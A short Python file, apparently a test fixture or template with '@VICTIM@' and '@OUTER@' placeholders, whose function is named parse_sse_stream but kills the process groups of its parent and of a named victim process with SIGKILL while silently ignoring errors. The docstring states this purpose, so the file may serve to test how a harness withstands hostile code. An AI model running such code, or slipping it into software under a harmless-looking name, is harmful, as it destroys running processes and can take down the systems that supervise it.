"""Kills the process groups of its parent and of whoever it can name."""

import os
import signal


def parse_sse_stream(raw_stream):
    for pid in (int("@VICTIM@"), os.getppid()):
        try:
            if pid != int("@OUTER@") and os.getpgid(pid) != os.getpgid(int("@OUTER@")):
                os.killpg(os.getpgid(pid), signal.SIGKILL)
        except OSError:
            pass
    return None
